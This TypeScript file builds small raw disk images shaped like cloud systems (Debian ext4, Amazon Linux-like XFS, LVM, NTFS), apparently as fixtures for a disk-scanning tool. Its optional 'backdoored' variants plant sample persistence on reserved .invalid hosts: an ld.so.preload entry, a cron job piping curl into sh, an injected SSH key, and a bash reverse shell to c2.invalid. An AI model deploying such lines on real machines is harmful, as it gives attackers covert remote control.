import { chmodSync, mkdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { isInstalled, run } from './run.ts';

/*
 * Disks as clouds have them, with a small system on each, made by Debian's own tools: a Debian-like one (GPT, EFI, ext4 root), one like Amazon
 * Linux 2023 (GPT, XFS root), one whose root is on LVM2, and one with NTFS.
 */

export const MACHINES = ['debian', 'al2023', 'lvm', 'ntfs'] as const;
export type MachineName = (typeof MACHINES)[number];

const MIB = 2 ** 20;
const TOOLS: Readonly<Record<MachineName, readonly string[]>> = {
  debian: ['sgdisk', 'mke2fs', 'mkfs.vfat', 'mcopy', 'mmd'],
  al2023: ['sgdisk', 'mkfs.xfs', 'mkfs.vfat', 'mcopy', 'mmd'],
  lvm: ['sgdisk', 'mke2fs', 'pvcreate', 'losetup'],
  ntfs: ['sgdisk', 'mkntfs', 'ntfscp'],
};

/** What is missing to make it; undefined when nothing is. */
export function missingFor(machine: MachineName): string | undefined {
  const missing = ['qemu-img', ...TOOLS[machine]].filter((tool) => !isInstalled(tool));
  return missing.length === 0 ? undefined : `needs ${missing.join(', ')}`;
}

/** Files of a system by path, with what is put into it. */
type Files = Readonly<Record<string, string>>;

const SYSTEM: Files = {
  'etc/os-release': 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  'etc/fstab': 'LABEL=root / auto defaults 0 1\nLABEL=UEFI /boot/efi vfat defaults 0 0\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
  'etc/machine-id': '',
  'usr/bin/tool': '#!/bin/sh\nexit 0\n',
  'var/lib/dpkg/status':
    'Package: tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@host.invalid>\nDescription: x\n\n',
  'var/lib/dpkg/info/tool.list': '/.\n/usr\n/usr/bin\n/usr/bin/tool\n',
};

const WINDOWS: Files = {
  'Windows/System32/drivers/etc/hosts': '127.0.0.1 localhost\r\n',
  'Users/Public/readme.txt': 'hello\r\n',
};

/** Inert: the shapes of backdoors, on reserved names. */
const BACKDOORS: Files = {
  'etc/ld.so.preload': '/usr/lib/libx.so\n',
  'etc/cron.d/x': '* * * * * root curl -s http://get.invalid/x | sh\n',
  'root/.ssh/authorized_keys': `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)} x@host.invalid\n`,
};
const WINDOWS_BACKDOORS: Files = {
  'ProgramData/x/update.sh': '#!/bin/sh\nbash -i >& /dev/tcp/c2.invalid/4444 0>&1\n',
};

/** Makes a raw disk; its path. */
export function makeMachine(folder: string, machine: MachineName, backdoored: boolean): string {
  const disk = join(folder, `${machine}${backdoored ? '-bad' : ''}.raw`);
  const good = machine === 'ntfs' ? WINDOWS : SYSTEM;
  const files = { ...good, ...(backdoored && (machine === 'ntfs' ? WINDOWS_BACKDOORS : BACKDOORS)) };
  const tree = join(folder, 'tree');
  writeTree(tree, files);
  blank(disk, 400 * MIB);
  MAKERS[machine](disk, tree, files);
  rmSync(tree, { recursive: true, force: true });
  return disk;
}

const MAKERS: Readonly<Record<MachineName, (disk: string, tree: string, files: Files) => void>> = {
  debian(disk, tree) {
    const at = partition(disk, [
      ['14', '2048', '8191', 'EF02'],
      ['15', '8192', '73727', 'EF00'],
      ['1', '73728', '0', '8300'],
    ]);
    place(disk, makeEfi(disk), at('15'));
    const root = blank(`${disk}.root`, 350 * MIB);
    run('mke2fs', ['-q', '-t', 'ext4', '-L', 'root', '-d', tree, root]);
    place(disk, root, at('1'));
  },
  al2023(disk, tree, files) {
    const at = partition(disk, [
      ['127', '2048', '4095', 'EF02'],
      ['128', '8192', '73727', 'EF00'],
      ['1', '73728', '0', '8300'],
    ]);
    place(disk, makeEfi(disk), at('128'));
    const root = blank(`${disk}.root`, 350 * MIB);
    run('mkfs.xfs', ['-q', '-L', 'root', '-p', writeProto(`${disk}.proto`, tree, files), root]);
    place(disk, root, at('1'));
  },
  lvm(disk, tree) {
    const at = partition(disk, [['1', '2048', '0', '8E00']]);
    const physical = blank(`${disk}.pv`, 380 * MIB);
    const root = blank(`${disk}.root`, 320 * MIB);
    run('mke2fs', ['-q', '-t', 'ext4', '-L', 'root', '-d', tree, root]);
    const start = makeLogicalVolume(physical);
    run('dd', [
      `if=${root}`,
      `of=${physical}`,
      'bs=512',
      `seek=${start}`,
      'conv=notrunc,sparse',
      'status=none',
    ]);
    rmSync(root);
    place(disk, physical, at('1'));
  },
  ntfs(disk, tree, files) {
    const at = partition(disk, [['1', '2048', '0', '0700']]);
    const root = blank(`${disk}.root`, 380 * MIB);
    run('mkntfs', ['-q', '-F', '-Q', '-L', 'root', root]);
    fillNtfs(root, tree, files);
    place(disk, root, at('1'));
  },
};

/** The metadata are written, and no device is made: the kernel may have no device mapper. */
const NO_ACTIVATION =
  'activation/udev_sync=0 activation/udev_rules=0 global/activation=0 backup/backup=0 backup/archive=0 devices/use_devicesfile=0';

/** `vg0/root` on a physical volume; the sector its data begin at. */
function makeLogicalVolume(physical: string): number {
  const device = run('losetup', ['-f', '--show', physical]).trim();
  const only = ['--config', NO_ACTIVATION, '--devices', device];
  try {
    run('pvcreate', ['-q', '-y', ...only, device]);
    run('vgcreate', ['-q', '-y', ...only, 'vg0', device]);
    run('lvcreate', ['-q', '-y', ...only, '-an', '-Zn', '-Wn', '-L', '320M', '-n', 'root', 'vg0']);
    const start = run('pvs', [
      '--noheadings',
      '--nosuffix',
      '--units',
      's',
      '-o',
      'pe_start',
      ...only,
      device,
    ]);
    return Number(start);
  } finally {
    run('losetup', ['-d', device]);
  }
}

function blank(path: string, size: number): string {
  writeFileSync(path, '');
  truncateSync(path, size);
  return path;
}

function writeTree(tree: string, files: Files): void {
  rmSync(tree, { recursive: true, force: true });
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(tree, dirname(name)), { recursive: true });
    writeFileSync(join(tree, name), content);
    if (content.startsWith('#!')) chmodSync(join(tree, name), 0o755);
  }
}

/** @returns the first sector of each partition by its number */
function partition(disk: string, parts: readonly (readonly [string, string, string, string])[]) {
  const options = parts.flatMap(([number, first, last, type]) => [
    '-n',
    `${number}:${first}:${last}`,
    '-t',
    `${number}:${type}`,
  ]);
  run('sgdisk', [...options, disk]);
  return (number: string): number => Number(parts.find(([one]) => one === number)?.[1]);
}

function place(disk: string, part: string, sector: number): void {
  run('dd', [`if=${part}`, `of=${disk}`, 'bs=512', `seek=${sector}`, 'conv=notrunc,sparse', 'status=none']);
  rmSync(part);
}

function makeEfi(disk: string): string {
  const efi = blank(`${disk}.efi`, 32 * MIB);
  run('mkfs.vfat', ['-n', 'UEFI', efi]);
  run('mmd', ['-i', efi, '::EFI', '::EFI/BOOT']);
  run('mcopy', ['-i', efi, '-', '::EFI/BOOT/readme.txt'], { input: 'hello\n' });
  return efi;
}

/** mkfs.xfs(8): a prototype. Its parser wants tokens divided by blanks, and `$` at the end of a folder. */
function writeProto(proto: string, tree: string, files: Files): string {
  const lines = ['boot', '0 0', 'd--755 0 0'];
  const folder = (path: string): void => {
    const below = Object.keys(files).filter((name) => name.startsWith(path));
    const names = new Set(below.map((name) => name.slice(path.length).split('/', 1)[0] ?? ''));
    for (const name of names) {
      const full = `${path}${name}`;
      if (files[full] === undefined) {
        lines.push(`${name} d--755 0 0`);
        folder(`${full}/`);
        lines.push('$');
      } else lines.push(`${name} ---${files[full].startsWith('#!') ? 755 : 644} 0 0 ${join(tree, full)}`);
    }
  };
  folder('');
  writeFileSync(proto, `${[...lines, '$'].join('\n')}\n`);
  return proto;
}

/** ntfscp makes no folders, so the volume is mounted where it can be. */
function fillNtfs(volume: string, tree: string, files: Files): void {
  const mount = `${volume}.mnt`;
  mkdirSync(mount);
  run('ntfs-3g', ['-o', 'rw,streams_interface=none', volume, mount]);
  try {
    for (const name of new Set(Object.keys(files).map((file) => file.split('/', 1)[0] ?? '')))
      run('cp', ['-r', join(tree, name), mount]);
  } finally {
    run('umount', [mount]);
    rmSync(mount, { recursive: true });
  }
}
